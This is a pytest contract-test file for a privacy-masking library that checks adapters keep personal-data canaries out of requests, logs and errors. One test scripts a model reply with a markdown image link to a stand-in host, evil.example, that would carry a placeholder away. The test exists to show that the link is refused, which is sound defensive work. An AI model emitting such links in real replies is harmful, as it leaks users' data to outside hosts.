"""What every adapter promises, on every sort of client."""

import gc
import json
import logging
import re
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace

import pytest

from privguard.core.audit import Event, Outcome
from privguard.core.entities import EntityType
from privguard.core.errors import ProtectionError
from privguard.core.plan import Action
from privguard.core.profile import Profile
from privguard.guard import Guard, use
from privguard.testing import (
    Canary,
    FailingDetector,
    ListSink,
    ModelServer,
    Recorded,
    Reply,
    Said,
    all_canaries,
    call_tool,
    echo_placeholders,
    find_canaries,
    say,
)
from tests.contract.asked import messages_of
from tests.contract.conftest import MORE_VALUES
from tests.contract.driver import Answer, Client, Driver

CANARIES: tuple[Canary | str, ...] = (*all_canaries(), *MORE_VALUES)
PERSON = Canary.person().value
TEXT = "Please write to " + ", ".join(canary.value for canary in all_canaries()) + ". Thank you!"
SCHEMA = {"type": "object", "properties": {"to": {"type": "string"}}, "required": ["to"]}


@pytest.fixture
def client(driver: Driver, server: ModelServer, guard: Guard) -> Iterator[Answer]:
    with driver.open(server.base_url, guard) as opened:
        yield opened


def streamed(driver: Driver, client: Client, prompt: str, **options: Answer) -> str:
    return "".join(driver.delta(event) for event in driver.stream(client, prompt, **options))


def outcomes(sink: ListSink) -> list[Outcome]:
    return [record.outcome for record in sink.records]


def test_the_round_trip_is_exact_and_nothing_leaks(
    driver: Driver, client: Client, server: ModelServer, sink: ListSink
) -> None:
    # A value inside a URL comes back only where its host is allowed.
    prompt = TEXT.replace(Canary.url().value, "")
    assert driver.text(driver.ask(client, prompt)) == prompt
    assert streamed(driver, client, prompt) == prompt
    assert find_canaries(server.wire, CANARIES) == []
    assert outcomes(sink) == [Outcome.DONE, Outcome.DONE]


@pytest.mark.parametrize("value", MORE_VALUES, ids=range(len(MORE_VALUES)))
def test_unicode_quotes_and_line_ends_come_back_exactly(
    driver: Driver, client: Client, server: ModelServer, value: str
) -> None:
    prompt = f"👩‍🔬 e\u0301 שלום {value}! 𝔘 {value}"
    assert driver.text(driver.ask(client, prompt)) == prompt
    assert streamed(driver, client, prompt) == prompt
    assert find_canaries(server.wire, CANARIES) == []


def test_json_that_the_prompt_alone_asks_for_stays_valid(driver: Driver, client: Client, server: ModelServer) -> None:
    def speak(request: Recorded) -> Said:
        return Said(text="```json\n" + json.dumps([str(found) for found in request.placeholders()], indent=2) + "\n```")

    server.script(Reply(speak=speak), Reply(speak=speak, delta_every=3))
    prompt = "List them as JSON: " + "; ".join(MORE_VALUES)
    for text in (driver.text(driver.ask(client, prompt)), streamed(driver, client, prompt)):
        assert json.loads(text.removeprefix("```json").removesuffix("```")) == list(MORE_VALUES)
    assert driver.text(driver.ask(client, text)) == text  # what an answer was, as it is sent again
    assert find_canaries(server.wire, CANARIES) == []


@pytest.mark.parametrize("value", MORE_VALUES, ids=range(len(MORE_VALUES)))
def test_tool_arguments_are_valid_json_with_the_exact_value(
    driver: Driver, client: Client, server: ModelServer, value: str
) -> None:
    server.script(Reply(speak=call_tool))
    reply = driver.ask(client, f"Write to {value}", **driver.tools(SCHEMA))
    assert json.loads(driver.arguments(reply)) == {"to": value}


def test_streamed_is_whole_for_every_cut_of_the_deltas(driver: Driver, client: Client, server: ModelServer) -> None:
    prompt = f"Dear {PERSON}, [1] see {Canary.email().value}"
    whole = driver.text(driver.ask(client, prompt))
    length = len(messages_of(server.last)[0]["content"])
    for cut in range(1, length):
        server.script(Reply(delta_cuts=(cut,)))
        assert streamed(driver, client, prompt) == whole


def test_streamed_is_whole_for_every_cut_of_the_bytes(driver: Driver, client: Client, server: ModelServer) -> None:
    prompt = f"Zoë 😀 Ådahl and {PERSON}"
    for every in (1, 2, 3, 5, 7, 64, 1000):
        server.script(Reply(cut_every=every))
        assert streamed(driver, client, prompt) == prompt


@pytest.mark.parametrize("encoding", ["gzip", "deflate"])
def test_compressed_replies_are_restored(driver: Driver, client: Client, server: ModelServer, encoding: str) -> None:
    server.script(*[Reply(encoding=encoding)] * 2)
    assert driver.text(driver.ask(client, PERSON)) == PERSON
    assert streamed(driver, client, PERSON) == PERSON


def test_a_retry_sends_the_same_bytes(driver: Driver, server: ModelServer, guard: Guard, sink: ListSink) -> None:
    server.script(Reply.rate_limited(), Reply.rate_limited())
    with driver.open(server.base_url, guard, max_retries=2) as client:
        assert driver.text(driver.ask(client, TEXT.replace(Canary.url().value, "")))
    assert len(server.requests) == 3
    assert len({request.body for request in server.requests}) == 1
    attempts = [] if driver.retries_below_guard else [Outcome.FAILED, Outcome.FAILED]
    assert outcomes(sink) == [*attempts, Outcome.DONE]


def test_a_value_is_the_same_placeholder_in_every_turn(driver: Driver, client: Client, server: ModelServer) -> None:
    server.script(Reply(speak=echo_placeholders), Reply(speak=echo_placeholders))
    driver.ask(client, f"I am {PERSON}")
    first = server.last.placeholders()
    driver.ask(client, f"Be kind. And now, {PERSON}?")
    assert [str(found) for found in server.last.placeholders()] == [str(found) for found in first]


def test_where_nothing_is_minimized_bytes_and_replies_are_the_same(
    driver: Driver, server: ModelServer, guard: Guard
) -> None:
    options = driver.tools(SCHEMA)
    with driver.open(server.base_url, None) as plain, driver.open(server.base_url, guard) as protected:
        seen = []
        for client in (plain, protected):
            server.script(*[Reply(speak=say("Hé 😀, [1] and [x"))] * 2)
            seen.append(driver.ask(client, "Say hé 😀", **options))
            seen.append("".join(driver.delta(event) for event in driver.stream(client, "Say hé 😀", **options)))
    assert without_id(seen[0]) == without_id(seen[2])
    assert seen[1] == seen[3]
    first, second, third, fourth = server.requests
    assert (first.target, first.headers, first.body) == (third.target, third.headers, third.body)
    assert (second.target, second.headers, second.body) == (fourth.target, fourth.headers, fourth.body)


def without_id(reply: Answer) -> Answer:
    return reply.model_dump(exclude={"id": True, "output": {"__all__": {"id"}}})


def test_leaving_a_stream_leaves_nothing_open(
    driver: Driver, server: ModelServer, guard: Guard, sink: ListSink
) -> None:
    threads = set(threading.enumerate())
    hold = threading.Event()
    with driver.open(server.base_url, guard) as client:
        server.script(Reply(hold=hold))
        events = driver.stream(client, TEXT)
        next(events)
        events.close()  # type: ignore[attr-defined]  # a generator
        assert outcomes(sink) == [Outcome.ABANDONED]
    server.close()
    gc.collect()
    left = [thread for thread in set(threading.enumerate()) - threads if not thread.daemon]
    assert left == []


@pytest.mark.parametrize("stream", [False, True])
def test_an_error_status_is_recorded_and_nothing_leaks(
    driver: Driver, client: Client, server: ModelServer, sink: ListSink, stream: bool
) -> None:
    server.script(Reply(status=500))
    with pytest.raises(Exception, match="500"):
        streamed(driver, client, TEXT) if stream else driver.ask(client, TEXT)
    assert outcomes(sink) == [Outcome.FAILED]
    assert find_canaries(server.wire, CANARIES) == []


@pytest.mark.parametrize(
    "reply",
    [Reply(malformed=True), Reply(drop_after=60), Reply(content_type="text/plain"), Reply(content_type="x/y")],
    ids=["malformed", "dropped", "text", "other"],
)
@pytest.mark.parametrize("stream", [False, True])
def test_a_spoiled_reply_closes_the_exchange_once(
    driver: Driver, client: Client, server: ModelServer, sink: ListSink, reply: Reply, stream: bool
) -> None:
    server.script(reply)
    failure: Exception | None = None
    try:
        streamed(driver, client, TEXT) if stream else driver.text(driver.ask(client, TEXT))
    except Exception as error:  # noqa: BLE001 - the SDK's own, whatever it is
        failure = error
    assert not isinstance(failure, ProtectionError)
    assert len(sink.records) == 1


def test_a_failing_detector_sends_nothing(driver: Driver, server: ModelServer, guard: Guard, sink: ListSink) -> None:
    broken = Guard(replace(guard.parts, detector=FailingDetector(ValueError(PERSON))))
    with driver.open(server.base_url, broken) as client:
        for call in (lambda: driver.ask(client, TEXT), lambda: streamed(driver, client, TEXT)):
            with pytest.raises(ProtectionError) as caught:
                call()
            assert PERSON not in "".join(map(str, (caught.value, caught.value.__cause__)))
    assert server.requests == ()
    assert outcomes(sink) == [Outcome.BLOCKED, Outcome.BLOCKED]


def test_a_link_carries_no_value_away(driver: Driver, client: Client, server: ModelServer, sink: ListSink) -> None:
    def exfiltrate(request: Answer) -> Answer:
        return Said(text=f"![x](https://evil.example/?q={request.placeholders()[0]})")

    server.script(Reply(speak=exfiltrate), Reply(speak=exfiltrate))
    assert PERSON not in driver.text(driver.ask(client, f"I am {PERSON}"))
    assert PERSON not in streamed(driver, client, f"I am {PERSON}")
    assert [event.event for record in sink.records for event in record.events] == [Event.REFUSED, Event.REFUSED]


def test_a_cut_placeholder_is_left_as_it_is(driver: Driver, client: Client, server: ModelServer) -> None:
    server.script(Reply(truncate=True), Reply(truncate=True))
    prompt = f"I am {PERSON}"
    whole = driver.text(driver.ask(client, prompt))
    assert PERSON not in whole
    assert whole == streamed(driver, client, prompt)


def test_a_look_alike_that_the_caller_typed_stays(driver: Driver, client: Client, server: ModelServer) -> None:
    driver.ask(client, f"I am {PERSON}")
    typed = str(server.last.placeholders()[0])
    prompt = f"{PERSON}: what does {typed} mean?"
    assert driver.text(driver.ask(client, prompt)) == prompt
    assert streamed(driver, client, prompt) == prompt


def test_a_remote_tool_gets_placeholders(
    driver: Driver, server: ModelServer, make_guard: Callable[..., Guard], sink: ListSink
) -> None:
    server.script(Reply(speak=call_tool))
    with driver.open(server.base_url, make_guard(remote_tools=("send_mail",))) as client:
        reply = driver.ask(client, f"Write to {PERSON}", **driver.tools(SCHEMA))
    assert PERSON not in driver.arguments(reply)
    assert [event.event for event in sink.records[0].events] == [Event.REFUSED]


def test_a_property_name_survives_the_round_trip(driver: Driver, client: Client, server: ModelServer) -> None:
    server.script(Reply(speak=call_tool))
    value = Canary.username().value
    names = [value, f"notes_{value}"]
    schema = {"type": "object", "properties": {name: {"type": "string"} for name in names}, "required": names}
    reply = driver.ask(client, f"Write to {PERSON}", **driver.tools(schema))
    assert list(json.loads(driver.arguments(reply))) == names
    assert find_canaries(server.wire, CANARIES) == []


def test_logs_errors_and_reprs_show_no_canary(
    driver: Driver, server: ModelServer, guard: Guard, sink: ListSink, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    for name in list(logging.root.manager.loggerDict):
        caplog.set_level(logging.DEBUG, logger=name)
    seen: list[str] = []
    server.script(Reply(), Reply(), Reply(status=500))
    with driver.open(server.base_url, guard) as client:
        driver.ask(client, TEXT)
        streamed(driver, client, TEXT)
        refused: tuple[dict[str, Answer], ...] = (
            {},  # the scripted failure
            {"extra_headers": {"x-note": PERSON}},
            {"extra_query": {PERSON: "1"}},
            {"extra_body": {"model": PERSON}},
        )
        for options in refused:
            with pytest.raises(Exception, match=r".") as caught:
                driver.ask(client, TEXT, **options)
            seen.append(f"{caught.value!r} {caught.value}")
        seen += [repr(client), repr(guard), repr(sink.records)]
    logged = "\n".join(f"{record.getMessage()} {record.exc_info}" for record in caplog.records)
    assert find_canaries("\n".join([logged, *seen]).encode(), CANARIES) == []
    assert find_canaries(server.wire, CANARIES) == []
    assert re.search(r"x-note|header", "".join(seen))


def test_a_profile_for_a_block_reaches_the_request(
    driver: Driver, client: Client, server: ModelServer, sink: ListSink
) -> None:
    open_to_names = Profile(id="open:1", name="open", gamma=0.5, ceilings={EntityType.PERSON: Action.RETAIN})
    with use(open_to_names):
        driver.ask(client, PERSON)
    assert sink.records[0].profile_id == "open:1"
